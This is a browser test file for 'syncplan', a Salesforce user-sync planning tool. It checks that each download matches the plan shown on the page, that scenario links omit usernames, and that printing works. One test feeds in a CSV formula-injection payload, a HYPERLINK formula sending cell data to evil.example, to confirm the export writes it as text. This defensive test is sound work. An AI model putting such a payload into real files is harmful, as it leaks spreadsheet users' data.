// Taking the result away: every download from the report, checked by content; a name
// that starts with `=` comes out neutralised; the scenario link restores the set-up (and carries
// no username); printing renders the print report.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { serve, launch, openApp, syncplanCli, shownSummary, root, readZip } from './harness.mjs';

let server;
let browser;
before(async () => { server = await serve(); browser = await launch(); });
after(async () => { await browser?.close(); await server?.close(); });

const demoDir = path.join(root, 'www', 'demo');
const demoExports = () => fs.readdirSync(demoDir)
  .filter((f) => f.endsWith('.csv'))
  .map((f) => ({ name: f, mimeType: 'text/csv', buffer: fs.readFileSync(path.join(demoDir, f)) }));

async function download(page, id) {
  const [dl] = await Promise.all([page.waitForEvent('download'), page.click(`[data-export="${id}"]`)]);
  const file = await dl.path();
  return { name: dl.suggestedFilename(), bytes: fs.readFileSync(file) };
}

/** Parse one CSV line (RFC 4180, no newlines inside quotes needed here). */
function cells(line) {
  const out = [];
  let cur = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const c = line[i];
    if (quoted) {
      if (c === '"' && line[i + 1] === '"') { cur += '"'; i++; } else if (c === '"') quoted = false; else cur += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { out.push(cur); cur = ''; } else cur += c;
  }
  out.push(cur);
  return out;
}

test('every download holds the plan the page shows', async () => {
  const app = await openApp(browser, server.origin, '/?demo');
  const { page } = app;
  const shown = await shownSummary(page);
  const cli = JSON.parse(syncplanCli(['plan', 'www/demo', '--format', 'json']));
  const decisions = cli.business_units.flatMap((b) => b.decisions);

  const json = await download(page, 'plan-json');
  assert.equal(json.name, 'syncplan-plan.json');
  const plan = JSON.parse(json.bytes.toString('utf8'));
  assert.equal(plan.format_version, '1.0');
  assert.deepEqual(plan.summary, shown);
  assert.deepEqual(plan.business_units, cli.business_units, 'the same decisions as the command line');

  const csv = await download(page, 'plan-csv');
  const text = csv.bytes.toString('utf8');
  assert.ok(text.startsWith('\ufeffbusiness_unit,action,salesforce_user_id,username,name,'), 'UTF-8 BOM and header');
  const lines = text.slice(1).trimEnd().split('\r\n');
  assert.equal(lines.length, decisions.length + 1, 'one row per decision');
  const header = cells(lines[0]);
  const first = decisions.find((d) => d.action === 'create');
  const row = lines.map(cells).find((r) => r[header.indexOf('salesforce_user_id')] === first.salesforce_user_id);
  assert.equal(row[header.indexOf('reason_code')], first.reason.code);
  assert.equal(row[header.indexOf('reason')], first.reason.text);
  assert.equal(row[header.indexOf('role')], first.role);

  const md = (await download(page, 'markdown')).bytes.toString('utf8');
  assert.match(md, /create/);
  assert.ok(md.includes(first.username));

  const mapping = (await download(page, 'mapping-csv')).bytes.toString('utf8');
  assert.ok(mapping.startsWith('\ufeffbusiness_unit,profile,profile_id,ae_role,rule,is_default,'));
  assert.match(mapping, /Acme Marketing,Marketing Lead,[^,]*,Sales Manager,R-PROFILE,false/);

  const pack = await download(page, 'audit-pack');
  assert.equal(pack.name, 'syncplan-audit-pack.zip');
  assert.equal(pack.bytes.subarray(0, 2).toString('latin1'), 'PK');
  const entries = readZip(pack.bytes);
  assert.deepEqual(entries.map((e) => e.name),
    ['README.txt', 'report.html', 'plan.csv', 'findings.csv', 'mapping.csv', 'plan.json', 'plan.md', 'syncplan.json']);
  // The pack says when it was made, and its files are dated then (not 1980).
  const today = new Date().toISOString().slice(0, 10);
  assert.match(entries[0].text(), new RegExp(`Made on ${today} \\d\\d:\\d\\d UTC`));
  assert.ok(entries[1].text().includes(`Made by syncplan on ${today}`));
  for (const e of entries) assert.ok(Math.abs(e.date - Date.now()) < 10 * 60 * 1000, `${e.name} is dated ${e.date.toISOString()}`);
  assert.deepEqual(app.errors, []);
  assert.deepEqual(app.foreign(), []);
  await app.context.close();
});

test('a name that starts with = comes out neutralised in the CSV', async () => {
  const app = await openApp(browser, server.origin, '/');
  const { page } = app;
  const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
  const users = 'Id,Username,Email,FirstName,LastName,Name,IsActive,ProfileId\n'
    + `005000000000001,eve@example.com,eve@example.com,Eve,Hacker,"${evil.replaceAll('"', '""')}",true,00e000000000001\n`;
  await page.setInputFiles('#file-input', [{ name: 'users.csv', mimeType: 'text/csv', buffer: Buffer.from(users) }]);
  await shownSummary(page);
  await page.click('#tab-report').catch(() => {});
  const csv = (await download(page, 'plan-csv')).bytes.toString('utf8');
  const lines = csv.slice(1).trimEnd().split('\r\n').map(cells);
  const name = lines[1][lines[0].indexOf('name')];
  assert.equal(name, `'${evil}`, 'the formula is written as text');
  assert.deepEqual(app.errors, []);
  assert.deepEqual(app.foreign(), []);
  await app.context.close();
});

test('a scenario link restores the set-up, and carries no username', async () => {
  const app = await openApp(browser, server.origin, '/?demo');
  const { page } = app;
  const shown = await shownSummary(page);
  await page.click('#link-button');
  const url = await page.inputValue('#scenario-link');
  // The page says whether the link went to the clipboard.
  assert.match(await page.textContent('#link-copied'), /^ (Copied\.|Copy it from here\.)$/);
  const fragment = url.split('#')[1];
  assert.match(fragment, /^scenario=[A-Za-z0-9_-]+$/);
  assert.equal(new URL(page.url()).hash, `#${fragment}`, 'the address carries the link too');
  await app.context.close();

  // A fresh page opened on the link, given the same exports (no syncplan.json): the set-up is
  // the demo's, so the counts are the demo's.
  const fresh = await openApp(browser, server.origin, `/#${fragment}`);
  // Before the exports: an invitation to add them, never an error.
  await fresh.page.waitForSelector('#report-title');
  await new Promise((r) => setTimeout(r, 500));
  assert.equal(await fresh.page.locator('.engine-error').count(), 0);
  await fresh.page.setInputFiles('#file-input', demoExports());
  await fresh.page.waitForFunction((want) => {
    const els = [...document.querySelectorAll('#summary [data-action]')];
    return els.length === 6 && els.every((e) => Number(e.querySelector('dd').textContent) === want[e.dataset.action]);
  }, shown, { timeout: 30000 });
  const decoded = await fresh.page.evaluate(() => decodeURIComponent(location.hash));
  assert.doesNotMatch(decoded, /@/, 'no username or email in the link');
  assert.deepEqual(fresh.errors, []);
  assert.deepEqual(fresh.foreign(), []);
  await fresh.context.close();
});

test('print renders the print report: summary, findings, mapping, users who change', async () => {
  const app = await openApp(browser, server.origin, '/?demo');
  const { page } = app;
  await shownSummary(page);
  await page.evaluate(() => {
    window.print = () => {
      const r = document.querySelector('.print-report');
      window.__printed = { text: r?.textContent ?? null, printing: document.body.classList.contains('printing') };
    };
  });
  await page.click('#print-button');
  await page.waitForFunction(() => window.__printed);
  const printed = await page.evaluate(() => window.__printed);
  assert.ok(printed.printing, 'the body is marked for printing');
  const today = new Date().toISOString().slice(0, 10);
  for (const part of [`Made by syncplan on ${today}`, 'Summary', 'Findings', 'Profile-to-role mapping', 'Users who change: Acme Marketing', 'L-CREATE']) {
    assert.ok(printed.text?.includes(part), `the print report has ${part}`);
  }
  await page.waitForFunction(() => !document.querySelector('.print-report') && !document.body.classList.contains('printing'));
  assert.deepEqual(app.errors, []);
  await app.context.close();
});
